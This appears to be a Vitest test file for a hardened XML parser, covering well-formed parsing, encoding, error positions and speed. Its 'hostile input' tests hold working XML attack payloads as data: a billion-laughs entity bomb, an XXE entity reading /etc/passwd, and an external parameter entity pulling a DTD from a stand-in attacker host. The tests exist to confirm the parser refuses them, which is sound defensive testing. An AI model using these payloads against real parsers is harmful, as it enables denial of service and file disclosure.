import { describe, expect, it } from 'vitest';
import { FormatError, childElements, decodeXmlBytes, textContent, type XmlElement } from '../../../../core/formats/index.js';
import { parseXml } from '../../../../core/xml/index.js';
import { formatError } from '../../../support/format-error';

describe('parseXml: well-formed input', () => {
  it('reads elements, attributes, text, CDATA, comments and processing instructions', () => {
    const doc = parseXml(
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- head -->\n<?app data?>\n' +
        '<root a="1" b=\'two\'><x>Text &amp; &lt;&gt;&quot;&apos; &#65;&#x42;&#x1F600;</x>' +
        '<!-- c --><y><![CDATA[<raw> & ]] stuff]]></y><z/><?pi inside?></root>\n<!-- tail -->\n',
    );
    expect(doc.root.name).toBe('root');
    expect(Object.fromEntries(doc.root.attrs)).toEqual({ a: '1', b: 'two' });
    const [x, y, z] = childElements(doc.root);
    expect(textContent(x!)).toBe('Text & <>"\' AB😀');
    expect(textContent(y!)).toBe('<raw> & ]] stuff');
    expect(z!.children).toEqual([]);
  });

  it('normalises line ends and attribute whitespace like XML 1.0 requires', () => {
    const doc = parseXml('<r a="x\ty\nz" b="&#9;&#10;&#13;">one\r\ntwo\rthree&#13;</r>');
    expect(doc.root.attrs.get('a')).toBe('x y z');
    expect(doc.root.attrs.get('b')).toBe('\t\n\r');
    expect(textContent(doc.root)).toBe('one\ntwo\nthree\r');
  });

  it('accepts a byte-order mark, non-ASCII names and astral characters', () => {
    const doc = parseXml('\uFEFF<wörter 名前="値"><ελ>𝄞👩‍👩‍👧</ελ></wörter>');
    expect(doc.root.attrs.get('名前')).toBe('値');
    expect(textContent(doc.root)).toBe('𝄞👩‍👩‍👧');
  });

  it('accepts a DOCTYPE without an internal subset and never fetches it', () => {
    const doc = parseXml('<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx/>');
    expect(doc.doctype).toEqual({ name: 'tmx', systemId: 'tmx14.dtd' });
    const pub = parseXml('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://example.invalid/x.dtd"><html/>');
    expect(pub.doctype?.publicId).toBe('-//W3C//DTD XHTML 1.0//EN');
  });

  it('skips element and attribute declarations in an internal subset', () => {
    const doc = parseXml('<!DOCTYPE r [\n<!ELEMENT r (#PCDATA)>\n<!ATTLIST r a CDATA "x>y">\n<!-- c -->\n]>\n<r>ok</r>');
    expect(textContent(doc.root)).toBe('ok');
  });

  it('reads nesting as deep as the formats need, and refuses absurd depth quickly instead of hanging', () => {
    const ok = 150;
    const doc = parseXml('<a>'.repeat(ok) + 'deep' + '</a>'.repeat(ok));
    let el: XmlElement = doc.root;
    let n = 1;
    while (el.children[0]?.kind === 'element') {
      el = el.children[0];
      n++;
    }
    expect(n).toBe(ok);
    const started = performance.now();
    const e = formatError(() => parseXml('<a>'.repeat(100_000) + '</a>'.repeat(100_000)));
    expect(e.message).toMatch(/nested more than 200 levels deep/);
    expect([e.line, e.column]).toEqual([1, 603]);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it('decodes bytes by byte-order mark or declaration', () => {
    const text = '<?xml version="1.0"?><r>Ελληνικά 😀</r>';
    const utf16 = [0xff, 0xfe];
    for (let i = 0; i < text.length; i++) utf16.push(text.charCodeAt(i) & 0xff, text.charCodeAt(i) >> 8);
    expect(textContent(parseXml(decodeXmlBytes(new Uint8Array(utf16))).root)).toBe('Ελληνικά 😀');
    const latin1 = new Uint8Array([...new TextEncoder().encode('<?xml version="1.0" encoding="ISO-8859-1"?><r>'), 0xe4, ...new TextEncoder().encode('</r>')]);
    expect(textContent(parseXml(decodeXmlBytes(latin1)).root)).toBe('ä');
  });

  it('reports invalid UTF-8 instead of replacing it', () => {
    const bad = new Uint8Array([...new TextEncoder().encode('<r>\nab'), 0xc3, 0x28, ...new TextEncoder().encode('</r>')]);
    const e = formatError(() => decodeXmlBytes(bad));
    expect(e.message).toMatch(/not valid UTF-8/);
    expect([e.line, e.column]).toEqual([2, 3]);
  });
});

describe('parseXml: hostile input is refused, never expanded', () => {
  it('refuses "billion laughs" entity expansion', () => {
    const lol =
      '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
      Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n') +
      '\n]>\n<lolz>&lol9;</lolz>';
    const e = formatError(() => parseXml(lol));
    expect(e.message).toMatch(/declares an entity/);
    expect(e.message).toMatch(/billion laughs/);
    expect([e.line, e.column]).toEqual([3, 2]);
  });

  it('refuses an external entity (XXE) pointing at a local file', () => {
    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<foo>&xxe;</foo>';
    const e = formatError(() => parseXml(xxe, { format: 'TMX' }));
    expect(e.message).toMatch(/^TMX: the DOCTYPE declares an external entity/);
    expect(e.message).toMatch(/XXE/);
    expect(e.message).not.toMatch(/root:/);
    expect([e.line, e.column]).toEqual([2, 17]);
  });

  it('refuses an external parameter entity', () => {
    const xml = '<!DOCTYPE foo [\n  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n  %remote;\n]>\n<foo/>';
    const e = formatError(() => parseXml(xml));
    expect(e.message).toMatch(/external parameter entity/);
    expect(e.line).toBe(2);
  });

  it('refuses public external entities and bare parameter-entity references', () => {
    expect(() => parseXml('<!DOCTYPE a [<!ENTITY e PUBLIC "-//X//EN" "http://x.invalid/e">]><a>&e;</a>')).toThrow(/external entity/);
    expect(() => parseXml('<!DOCTYPE a [ %pe; ]><a/>')).toThrow(/parameter-entity references/);
  });

  it('does not expand entities that were never declared', () => {
    const e = formatError(() => parseXml('<r>\n  caf&eacute;\n</r>'));
    expect(e.message).toMatch(/undefined entity/);
    expect([e.line, e.column]).toEqual([2, 13]);
  });
});

describe('parseXml: malformed input reports line and column (where the parser noticed)', () => {
  const cases: [string, string, RegExp, number, number][] = [
    ['mismatched end tag', '<a>\n  <b>text</c>\n</a>', /mismatched end tag: expected <\/b> for the element opened at line 2, column 3/, 2, 13],
    ['unclosed element', '<a>\n  <b>text\n', /<b> opened at line 2, column 3 is not closed/, 3, 1],
    ['unquoted attribute', '<a x=1/>', /unquoted attribute value/, 1, 6],
    ['missing "="', '<a x "1"/>', /attribute without value/, 1, 6],
    ['attributes without whitespace', '<a x="1"y="2"/>', /no whitespace between attributes/, 1, 9],
    ['duplicate attribute', '<a x="1" x="2"/>', /duplicate attribute: x/, 1, 16],
    ['"<" in an attribute', '<a x="a<b"/>', /"<" must be written &lt; in attribute values/, 1, 8],
    // The parser reads on to the end, looking for the ";" of an entity reference.
    ['bare ampersand', '<a>Tom & Jerry</a>', /<a> opened at line 1, column 1 is not closed/, 1, 18],
    ['text after the root', '<a/>\ntrailing', /text data outside of root node/, 2, 8],
    ['a second root', '<a/><b/>', /only one root/, 1, 7],
    ['"]]>" in text', '<a>x ]]> y</a>', /"\]\]>" is disallowed in char data/, 1, 8],
    ['illegal control character', '<a>x\u0001y</a>', /XML 1.0 forbids most control characters/, 1, 5],
    ['reference to an illegal character', '<a>&#0;</a>', /malformed character entity/, 1, 7],
    ['"--" in a comment', '<a><!-- x -- y --></a>', /malformed comment/, 1, 13],
    ['XML declaration not at the start', '\n<?xml version="1.0"?><a/>', /XML declaration must be at the start/, 2, 6],
    ['unterminated CDATA', '<a><![CDATA[abc</a>', /<a> opened at line 1, column 1 is not closed/, 1, 19],
    ['no root element', '<!-- only a comment -->', /must contain a root element/, 1, 23],
    ['column counts characters, not UTF-16 units', '<a>😀😀<b></a>', /opened at line 1, column 6/, 1, 12],
  ];
  for (const [name, xml, message, line, column] of cases) {
    it(name, () => {
      const e = formatError(() => parseXml(xml));
      expect(e.message).toMatch(message);
      expect({ line: e.line, column: e.column }).toEqual({ line, column });
    });
  }
});

describe('parseXml: scales linearly', () => {
  it('parses a large document and very long text, attribute, CDATA and comment runs quickly', () => {
    const big = 'x'.repeat(5_000_000);
    const amp = '&amp;'.repeat(500_000);
    const started = performance.now();
    const doc = parseXml(`<a b="${big}">${big}${amp}<![CDATA[${big}]]><!--${big}--><c>${']'.repeat(1_000_000)}</c></a>`);
    expect(doc.root.attrs.get('b')!.length).toBe(5_000_000);
    expect(textContent(doc.root).length).toBe(11_500_000);
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
